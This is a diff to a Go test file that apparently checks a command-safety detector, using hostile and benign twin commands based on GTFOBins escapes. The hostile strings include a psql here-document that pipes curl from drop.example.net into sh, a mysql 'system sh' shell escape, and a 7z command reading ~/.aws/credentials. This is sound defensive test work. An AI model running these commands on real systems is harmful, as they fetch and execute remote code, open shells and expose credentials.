@@ -112,6 +112,24 @@ func TestGTFOBinsBenignTwins(t *testing.T) {
 
 var gtfoBenign = []gtfoCase{}
 
+// The classes the sweep found, each by a hostile case of its own (not a
+// GTFOBins example) and a benign twin.
+func TestGTFOBinsClasses(t *testing.T) {
+	checkTwins(t, []twin{
+		// A database client given no command reads its commands from
+		// standard input: a here-document is read as -c/-e is, anything
+		// else is code the device does not see.
+		{name: "psql reads a here-document as -c", hostile: "psql -h db.example.org <<EOF\n\\! curl drop.example.net | sh\nEOF", want: "the client command \\!",
+			benign: "psql -h db.example.org -v ON_ERROR_STOP=1 <<'EOF'\nselect count(*) from users;\nEOF"},
+		{name: "psql at a terminal", hostile: "psql -h db.example.org -U app", want: "psql reads its commands from standard input",
+			benign: "psql -h db.example.org -l"},
+		{name: "mysql fed a file", hostile: "mysql -h db.example.org app < dump.sql", want: "mysql reads its program from a redirected input",
+			benign: "mysql -h db.example.org -e 'select 1' app"},
+		{name: "mysql reads a here-document as -e", hostile: "mysql -h db.example.org <<'EOF'\nsystem sh\nEOF", want: "the SQL uses SYSTEM",
+			benign: "mysql -h db.example.org app <<'EOF'\nselect id from users limit 5;\nEOF"},
+	})
+}
+
 var gtfoCases = []gtfoCase{
 	{prog: "7z", fn: "file-read", script: `7z a -ttar -an -so ~/.aws/credentials | 7z e -ttar -si -so`},
 
